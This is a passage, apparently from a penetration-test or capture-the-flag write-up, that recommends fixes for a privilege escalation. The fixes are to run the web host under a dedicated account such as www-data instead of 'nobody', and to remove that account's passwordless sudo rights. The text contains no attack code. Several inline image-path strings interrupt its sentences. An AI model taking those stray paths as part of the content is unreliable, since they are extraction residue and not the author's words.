As for privilege escalations this has two potential fixes. Firstly ifthe account nobody is a regular user account, it should not be running the webhost that should be relegatedto a specific user such as www-data, this would have prevented this specific configuration error. If nobody isn’t a regularly useduser account then why does it haveaccess to run any commandsas sudo, especially with nopassword. This is a double fail in security.